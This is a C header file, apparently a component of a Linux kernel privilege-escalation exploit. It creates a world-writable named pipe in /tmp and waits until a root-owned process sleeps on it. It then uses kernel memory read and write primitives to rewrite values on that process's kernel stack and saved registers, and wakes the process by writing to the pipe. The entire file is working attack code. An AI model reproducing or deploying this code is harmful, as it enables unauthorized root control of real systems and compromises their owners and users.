/* SPDX-License-Identifier: GPL-2.0-only */
/* sleeper.h - a program of root that sleeps in a call on a pipe with a name, which the attacker may
 * write to: what the call goes on with stands on its kernel stack. */
#ifndef SLEEPER_H
#define SLEEPER_H

#include "saved_thread.h"

#define FIFO "/tmp/fifo"
#define STACK_BYTES 4096
#define SWITCH_REGISTERS_SIZE 48 /* r15 to rbp */

static bool control(void)
{
	await(is_asleep(victim_task(own_task())));
	return is_ordinary() && peek32(victim_task(own_task()) + member("task.id")) != 0;
}

/* Of root's program. */
static inline uint64_t sleeper_stack_top(void)
{
	return peek(victim_task(own_task()) + member("task.arch.stack_top"));
}

static inline void words_exchange(uint64_t from, uint64_t end, uint64_t one, uint64_t other)
{
	for (uint64_t at = from; at < end; at += 8)
		if (peek(at) == one)
			poke(at, other);
}

/* Words on the sleeper's stack that say ONE say OTHER from now on; so do the registers that C code
 * left in the copy of the switch, where a local variable may be that is still needed. */
static inline void sleeper_exchange(uint64_t one, uint64_t other)
{
	const uint64_t top = sleeper_stack_top();
	const uint64_t registers = saved_thread(top) + member("saved_thread.registers");

	words_exchange(top - STACK_BYTES, top, one, other);
	words_exchange(registers, registers + SWITCH_REGISTERS_SIZE, one, other);
}

/* It goes on, with SIZE bytes; until it has ended. */
static inline void sleeper_wake(const void *bytes, size_t size)
{
	const long file = call3(__NR_open, (long)FIFO, O_WRONLY, 0);

	call3(__NR_write, file, (long)bytes, (long)size);
	await(victim_has_ended());
}

/* For root's program: the pipe to sleep for. */
static inline long make_fifo(void)
{
	call3(__NR_mknod, (long)FIFO, 0010000 | 0666, 0);
	call2(__NR_chmod, (long)FIFO, 0666);
	return call3(__NR_open, (long)FIFO, O_RDWR, 0);
}

#endif
